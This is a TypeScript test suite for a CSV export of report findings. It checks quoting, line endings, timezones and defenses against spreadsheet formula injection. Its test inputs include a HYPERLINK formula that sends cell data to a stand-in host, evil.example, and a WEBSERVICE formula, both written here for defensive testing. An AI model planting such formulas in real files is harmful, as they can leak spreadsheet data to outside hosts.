import fc from "fast-check";
import { expect, test } from "vitest";
import { asCsv } from "../../src/reports/as-csv.ts";
import { aFinding, aReport, LONDON } from "./samples.ts";

/** A small reader of RFC 4180, written apart from the writer. */
function readCsv(text: string): string[][] {
	const rows: string[][] = [];
	let row: string[] = [];
	let cell = "";
	let quoted = false;
	for (let index = 0; index < text.length; index++) {
		const mark = text[index];
		if (quoted) {
			if (mark !== '"') cell += mark;
			else if (text[index + 1] === '"') {
				cell += mark;
				index++;
			} else quoted = false;
		} else if (mark === '"') quoted = true;
		else if (mark === ",") {
			row.push(cell);
			cell = "";
		} else if (mark === "\r" && text[index + 1] === "\n") {
			rows.push([...row, cell]);
			row = [];
			cell = "";
			index++;
		} else cell += mark;
	}
	return rows;
}

function cells(subject: string): Map<string, string> {
	const [header = [], row = []] = readCsv(
		asCsv(aReport({ findings: [aFinding({ message: { subject } })] }), { timezone: LONDON }),
	);
	return new Map(header.map((name, index) => [name, row[index] ?? ""]));
}

test("each finding is a row below a header, and lines end in CRLF", () => {
	const csv = asCsv(aReport({ findings: [aFinding(), aFinding({ id: "f_two" })] }), { timezone: LONDON });
	expect(csv.split("\r\n")).toHaveLength(4);
	expect(csv.endsWith("\r\n")).toBe(true);
	expect(csv.startsWith("id,date,rule,severity,certainty,")).toBe(true);
	expect(cells("x").get("copied")).toBe("Rowan Tasker <r.tasker@sallowfield.example>");
});

test.each([
	'=HYPERLINK("http://evil.example/?"&A1,"Open")',
	"+44 1209 000000",
	"-2+3",
	"@SUM(A1:A9)",
	"\t=1+1",
	"  =1+1",
	"\u200b=1+1",
	"\uff1d1+1",
])("a subject that a spreadsheet would run is made text: %j", (subject) => {
	expect(cells(subject).get("subject")).toMatch(/^'/u);
});

test("what follows a semicolon is no cell of its own: LibreOffice splits there where no quotes stand", () => {
	const csv = asCsv(aReport({ findings: [aFinding({ message: { subject: "Gate;=WEBSERVICE(A1)" } })] }), {
		timezone: LONDON,
	});
	expect(csv).toContain('"Gate;=WEBSERVICE(A1)"');
});

test("an ordinary subject is left alone", () => {
	expect(cells("Gate – a quote, “and” more").get("subject")).toBe("Gate – a quote, “and” more");
});

test("whatever the subject, the row keeps its columns and no cell begins as a formula", () => {
	const columns = cells("x").size;
	fc.assert(
		fc.property(fc.oneof(fc.string({ unit: "binary" }), fc.stringMatching(/^[=+\-@",\r\n\t a]{0,12}$/)), (subject) => {
			const rows = readCsv(asCsv(aReport({ findings: [aFinding({ message: { subject } })] }), { timezone: LONDON }));
			expect(rows.map((row) => row.length)).toEqual([columns, columns]);
			for (const cell of rows[1] ?? []) expect(cell).not.toMatch(/^\s*[=+\-@]/u);
		}),
	);
});

test("times are the council's, with the offset of that day", () => {
	const dates = ["2026-06-02T09:15:00Z", "2026-01-05T10:00:00.000Z"].map((date) =>
		aFinding({ id: date, message: { date } }),
	);
	const [, ...rows] = readCsv(asCsv(aReport({ findings: dates }), { timezone: LONDON }));
	expect(rows.map((row) => row[1])).toEqual(["2026-01-05T10:00:00+00:00", "2026-06-02T10:15:00+01:00"]);
});
